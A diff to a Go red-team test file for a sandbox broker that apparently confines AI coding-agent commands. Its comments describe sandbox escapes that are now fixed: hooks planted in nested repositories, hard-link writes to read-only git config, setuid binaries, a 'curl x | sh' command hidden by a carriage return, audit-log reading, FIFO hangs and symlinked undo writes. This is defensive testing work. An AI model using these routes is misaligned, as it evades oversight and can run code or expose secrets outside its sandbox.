@@ -1,5 +1,8 @@
 package attacks
 
+// Attacks found by a red-team pass over the boundary. "FOUND AND FIXED" tests failed before their fix (the comment
+// says what broke and why); "HELD" tests add coverage of attacks the protections already stopped.
+
 import (
 	"context"
 	"fmt"
@@ -70,7 +73,7 @@ func fileText(p string) string {
 	return string(b)
 }
 
-// BREAK. Protected paths are "protected at any depth" (policy.Protected, the one list for the file tools and
+// FOUND AND FIXED. Protected paths are "protected at any depth" (policy.Protected, the one list for the file tools and
 // commands) and "read-only for commands", but the sandbox covers them only at the root and at nested repositories
 // that have a .git folder. A command rewrites an existing .vscode/ or .envrc of a plain sub-folder (a monorepo
 // package), a submodule's hooks under .git/modules, or a worktree's commondir, silently.
@@ -116,7 +119,7 @@ func TestRedTeamProtectedPathsBelowTheRootAreWritableByCommands(t *testing.T) {
 	}
 }
 
-// BREAK. A command that creates a nested repository and plants a hook in it gets no warning: the list of
+// FOUND AND FIXED. A command that creates a nested repository and plants a hook in it gets no warning: the list of
 // protected paths to compare is taken before the command, when the nested repository did not exist. `git commit`
 // in that folder later runs the hook outside the sandbox. Control: the same in the root is named.
 func TestRedTeamNewNestedRepoHookIsNotNoticed(t *testing.T) {
@@ -140,7 +143,7 @@ func TestRedTeamNewNestedRepoHookIsNotNoticed(t *testing.T) {
 	}
 }
 
-// BREAK. The read-only mount of .git/config covers its path, not its inode: a hard link made by an earlier command
+// FOUND AND FIXED. The read-only mount of .git/config covers its path, not its inode: a hard link made by an earlier command
 // (here while creating the repository, which the compare names as "created") writes .git/config later though a
 // direct write is refused. The compare after the write names it; the write is not stopped.
 func TestRedTeamHardLinkWritesReadOnlyGitConfig(t *testing.T) {
@@ -163,7 +166,7 @@ func TestRedTeamHardLinkWritesReadOnlyGitConfig(t *testing.T) {
 	}
 }
 
-// BREAK (broker run as root). A sandboxed command keeps uid 0 without capabilities, and the owner of a file may
+// FOUND AND FIXED (broker run as root). A sandboxed command keeps uid 0 without capabilities, and the owner of a file may
 // set its setuid bit without any: the command leaves a setuid-root executable in the project. no_new_privs makes
 // it useless inside the sandbox, but outside any local user who can reach the folder runs it as root.
 func TestRedTeamSetuidBinaryLeftInRoot(t *testing.T) {
@@ -191,7 +194,7 @@ func TestRedTeamSetuidBinaryLeftInRoot(t *testing.T) {
 		fi.Mode(), bin, strings.TrimSpace(string(out)))
 }
 
-// BREAK. A question's title is "one line naming the action", but a bare carriage return or a newline in a
+// FOUND AND FIXED. A question's title is "one line naming the action", but a bare carriage return or a newline in a
 // command or a path is not flagged as hidden: "$ curl x | sh\recho hello" shows as "echo hello" where CR returns
 // to the start of the line, and a file name with a newline makes a second, made-up line; the same lone CR in a
 // write's content is not flagged either (fsops.HasHidden allows \t, \n and \r everywhere). Control: a bidi
@@ -608,7 +611,7 @@ func TestRedTeamOddWriteTargets(t *testing.T) {
 	}
 }
 
-// BREAK. The audit log is out of a command's sight in its default place ($GARUDA_HOME, hidden), but not when team
+// FOUND AND FIXED. The audit log is out of a command's sight in its default place ($GARUDA_HOME, hidden), but not when team
 // policy moves it with audit_dir: then every sandboxed command reads the log of every session of the broker (paths
 // and the full text of earlier commands, which may carry tokens). Control: in the default place it is hidden.
 func TestRedTeamAuditDirReadableByCommands(t *testing.T) {
@@ -636,7 +639,7 @@ func TestRedTeamAuditDirReadableByCommands(t *testing.T) {
 	}
 }
 
-// BREAK (denial of service). A sandboxed command plants a FIFO as a skill's SKILL.md (.claude/skills/NAME or
+// FOUND AND FIXED (denial of service). A sandboxed command plants a FIFO as a skill's SKILL.md (.claude/skills/NAME or
 // .agents/skills/NAME; it gets a "created protected paths" warning, nothing more). Every later OpenSession of the
 // project then blocks for ever opening it: the editor's session/new hangs, and a broker goroutine is stuck. FIFOs
 // in the other places read at OpenSession (AGENTS.md, CLAUDE.md, commands, settings) are skipped. Control: the same
@@ -673,7 +676,7 @@ func TestRedTeamFIFOsPlantedForTheNextSession(t *testing.T) {
 	}
 }
 
-// BREAK. Undo writes with no question, and restoreFile (broker/rpcs.go) opens the file's folder with
+// FOUND AND FIXED. Undo writes with no question, and restoreFile (broker/rpcs.go) opens the file's folder with
 // os.OpenRoot / fsops.OpenRoot, which follow symlinks in the folder's own path. A sandboxed command swaps the folder
 // of a file Garuda wrote for a symlink out of the root (to a file whose content matches what Garuda wrote): undo
 // then overwrites it with the pre-image, or removes it, outside the root, $GARUDA_HOME included. Control: without
@@ -745,7 +748,7 @@ func TestRedTeamSavedOutputOfAnotherSession(t *testing.T) {
 	}
 }
 
-// BREAK (fails closed, but every command fails). When the root's .git is a file, as in a linked worktree (`git
+// FOUND AND FIXED (it failed closed, but every command failed). When the root's .git is a file, as in a linked worktree (`git
 // worktree add`) or a submodule checkout, the sandbox tries to bind ROOT/.git/config, gets ENOTDIR (not
 // ErrNotExist, which protectPaths skips) and refuses every command with "sandbox unavailable ... run garuda-exec
 // doctor". A command can do the same to a project (`printf 'gitdir: x' > .git` where there was no .git): every
